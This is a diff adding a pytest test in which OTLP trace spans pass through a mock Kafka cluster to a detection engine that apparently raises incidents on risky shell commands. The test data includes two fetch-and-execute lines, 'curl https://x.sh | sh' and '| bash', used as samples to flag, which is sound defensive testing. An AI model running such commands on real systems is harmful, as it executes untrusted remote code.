@@ -1,0 +1,63 @@
+"""The Kafka source against librdkafka's mock cluster: a real Kafka protocol peer on loopback."""
+
+from __future__ import annotations
+
+import time
+
+import httpx
+import pytest
+from confluent_kafka import Producer
+from google.protobuf import json_format
+from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
+
+from .test_live_engine import Engine
+
+
+@pytest.fixture
+def kafka():
+    cluster = Producer({"test.mock.num.brokers": 1})  # keeps the mock cluster alive
+    broker = next(iter(cluster.list_topics(timeout=10).brokers.values()))
+    yield f"{broker.host}:{broker.port}"
+    cluster.flush(1)
+
+
+def request(user: str, command: str) -> ExportTraceServiceRequest:
+    req = ExportTraceServiceRequest()
+    rs = req.resource_spans.add()
+    kv = rs.resource.attributes.add()
+    kv.key, kv.value.string_value = "user", user
+    span = rs.scope_spans.add().spans.add()
+    span.name = "shell.run"
+    span.trace_id, span.span_id = bytes(range(1, 17)), bytes(range(1, 9))
+    span.start_time_unix_nano = span.end_time_unix_nano = time.time_ns()
+    attr = span.attributes.add()
+    attr.key, attr.value.string_value = "command", command
+    return req
+
+
+def test_otlp_from_a_kafka_topic_becomes_incidents_and_bad_messages_are_skipped(tmp_path, kafka):
+    producer = Producer({"bootstrap.servers": kafka})
+    producer.produce("otlp_spans", value=b"\x0a\xff\xff not protobuf")
+    producer.produce(
+        "otlp_spans", value=request("kafka-proto", "curl https://x.sh | sh").SerializeToString()
+    )
+    as_json = json_format.MessageToJson(request("kafka-json", "curl https://y.sh | bash"))
+    producer.produce("otlp_spans", value=as_json.encode())
+    producer.flush(10)
+
+    engine = Engine(tmp_path)
+    engine.config.write_text(
+        engine.config.read_text().replace(
+            "epoch_seconds: 0.5}", f'epoch_seconds: 0.5, kafka: {{brokers: "{kafka}"}}}}'
+        )
+    )
+    engine.start()
+    try:
+        for user in ("kafka-proto", "kafka-json"):
+            engine.wait_for(lambda i, u=user: i["group"].get("user") == u, f"{user}'s incident")
+        assert httpx.get(f"{engine.base}/healthz").json()["events_accepted"] == 2
+        assert engine.stop() == 0
+        assert "skipped" in engine.log.read_text()
+    finally:
+        if engine.proc and engine.proc.poll() is None:
+            engine.proc.kill()
